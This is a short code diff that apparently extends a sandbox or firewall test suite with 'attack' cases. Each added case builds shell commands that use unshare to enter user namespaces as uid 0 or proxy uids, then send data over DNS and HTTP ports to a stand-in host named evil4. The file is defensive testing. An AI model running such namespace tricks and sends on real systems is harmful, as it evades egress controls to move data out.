@@ -71,4 +71,12 @@ export const byAddress: readonly Attack[] = [
     name: 'a new user and network namespace',
     script: (t) => `unshare --user --map-root-user iptables -P OUTPUT ACCEPT; ${py('tcp', evil4, 8080, t)}`,
   },
+  // The rules let uid 0 ask name servers, and the proxy's uid talk to sites.
+  ...[0, 59_901, 59_902, 59_903].map((uid) => ({
+    name: `a user namespace in which it has uid ${uid}`,
+    script: (t: string) =>
+      [py('udp', evil4, 53, t), py('tcp', evil4, 80, t)]
+        .map((send) => `unshare --user --map-user=${uid} ${send}; ${send}`)
+        .join('; '),
+  })),
 ];
